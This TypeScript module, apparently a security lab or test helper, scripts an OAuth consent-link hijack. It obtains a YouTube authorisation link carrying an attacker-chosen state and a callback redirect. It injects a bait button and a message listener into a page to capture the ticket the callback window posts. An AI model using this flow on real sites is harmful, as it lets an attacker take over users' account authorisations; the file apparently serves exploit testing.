import { CALLBACK_PAGE } from './answers.ts';
import type { Person } from './person.ts';
import type { Site } from './site.ts';

const APP = { 'content-type': 'application/json', 'x-api-key': 'sandbox-demo-key' };

/**
 * Returns the consent link of a person who signed in on a page of this site, as a script of that page would get it. It
 * ends at the callback page, which hands the ticket over.
 */
export const linkOf = async (
  { url }: Site,
  codeFor: (email: string) => Promise<string>,
  email: string,
): Promise<string> => {
  const post = async (path: string, body: object, headers: Readonly<Record<string, string>> = {}) => {
    const asked = {
      method: 'POST',
      headers: { ...APP, origin: url, ...headers },
      body: JSON.stringify(body),
    };
    const answer = await fetch(`${url}/api/${path}`, asked);
    const fields: Readonly<Record<string, string>> = await answer.json();
    return fields;
  };
  await post('email/verify', { email });
  const { token } = await post('email/verify/confirm', { email, code: await codeFor(email) });
  const session = { state: 'a state of the attacker', redirectUrl: url + CALLBACK_PAGE };
  const { youtubeURL } = await post('youtube/authorize', { session }, { authorization: `Bearer ${token}` });
  if (!youtubeURL) throw new Error('There is no consent link');
  return youtubeURL;
};

/** Adds a button to a page. It opens the address in a window; the page records the messages of that window. */
export const baitWith = (person: Person, address: string, name: string) =>
  person.read(`(() => {
    window.posted = [];
    addEventListener('message', ({ data }) => window.posted.push(data));
    const button = document.createElement('button');
    button.textContent = ${JSON.stringify(name)};
    button.onclick = () => { window.opened = window.open(${JSON.stringify(address)}); };
    document.body.prepend(button);
  })()`);
